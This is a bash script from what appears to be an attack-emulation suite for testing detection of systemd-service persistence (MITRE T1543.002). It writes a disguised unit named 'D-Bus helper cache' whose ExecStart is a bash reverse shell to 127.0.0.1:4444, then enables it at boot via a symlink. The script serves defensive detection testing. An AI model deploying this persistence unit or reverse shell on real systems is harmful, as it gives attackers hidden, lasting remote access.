#!/bin/bash
# vigil-emulation: attack
# technique: T1543.002 Create or Modify System Process: Systemd Service
# tactic: persistence, privilege-escalation
# what: writes /etc/systemd/system/vigil-emul-dbus-helper.service whose ExecStart is a bash
#   reverse shell to 127.0.0.1 and enables it by hand (the multi-user.target.wants
#   symlink `systemctl enable` would make); nothing is started, both are removed.
# report: a new systemd unit written by a shell outside any package manager, enabled at
#   boot, whose command is a reverse shell.
# expect: systemd|service|unit
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

unit=/etc/systemd/system/vigil-emul-dbus-helper.service
link=/etc/systemd/system/multi-user.target.wants/vigil-emul-dbus-helper.service
emul_backup "$unit"
emul_backup "$link"
cat >"$unit" <<'UNIT'
[Unit]
Description=D-Bus helper cache

[Service]
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
Restart=always
RestartSec=60

[Install]
WantedBy=multi-user.target
UNIT
mkdir -p "$(dirname "$link")"
ln -sf "$unit" "$link"
ls -la "$link"
